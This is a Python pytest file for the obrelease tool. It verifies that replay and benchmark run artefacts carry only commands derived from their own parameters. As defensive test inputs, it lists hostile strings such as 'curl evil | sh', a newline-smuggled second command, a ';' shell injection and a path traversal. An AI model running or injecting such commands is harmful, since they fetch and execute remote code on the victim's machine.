"""Commands of runs: derived from parameters, equal to the recorded ones, and never text of others."""

from __future__ import annotations

import shlex
from pathlib import Path
from typing import Any

import pytest

from obrelease.analysis.kinds.all_kinds import command_of
from obrelease.models.artefact import Artefact, SourceFile
from obrelease.models.validation import read_artefact_model
from tests.drafts import draft

RESULTS = Path(__file__).resolve().parents[3] / "results"
SOURCE = SourceFile(name="day.itch", size=1, sha256="1" * 64)


def replay(command: str) -> Artefact:
    workload = draft().workload
    assert workload is not None
    return draft(
        kind="replay",
        workload=workload.model_copy(update={"seed": None, "source": SOURCE}),
        command=tuple(shlex.split(command)),
    )


def test_every_committed_run_has_the_command_of_its_parameters() -> None:
    runs = [read_artefact_model(path.read_bytes(), str(path)) for path in RESULTS.rglob("artefact.json")]
    assert {run.kind for run in runs} >= {"bench", "stress", "architectures", "replay"}
    own = [run for run in runs if run.kind != "imported"]
    assert [run.command for run in own] == [command_of(run) for run in own]


@pytest.mark.parametrize("file", ["", "day.itch ", "day.zip ", "'a day' ", "./-day "])
def test_a_replay_names_its_file_an_archive_of_it_or_nothing(file: str) -> None:
    run = replay(f"obrelease run replay {file}--core reference --passes 3")
    assert command_of(run) == run.command


@pytest.mark.parametrize(
    "command",
    [
        "sh -c 'curl evil | sh'",
        "obrelease run replay ../day.itch --core reference --passes 3",
        "obrelease run replay --forge --core reference --passes 3",
        "obrelease run replay 'a\ncurl evil | sh' --core reference --passes 3",
        "obrelease run replay day.itch --core reference --passes 3 ';' sh",
        "obrelease run replay day.itch --core native --passes 3",
        "",
    ],
)
def test_another_command_is_replaced_by_the_derived_one(command: str) -> None:
    derived = ("obrelease", "run", "replay", "day.itch", "--core", "reference", "--passes", "3")
    assert command_of(replay(command)) == derived


@pytest.mark.parametrize(
    "changes",
    [
        {"parameters": {"core": "a; sh", "passes": 3}},
        {"parameters": {"core": "-h", "passes": 3}},
        {"parameters": {"core": "reference", "passes": True}},
        {"parameters": {"core": "reference"}},
        {"workload": None, "outcome": None},
        {"kind": "stress"},
        {"kind": "imported"},
        {"producer": draft().producer.model_copy(update={"name": "other"})},
    ],
)
def test_no_command_is_derived_from_missing_or_hostile_parameters(changes: dict[str, Any]) -> None:
    assert command_of(draft(**changes)) is None
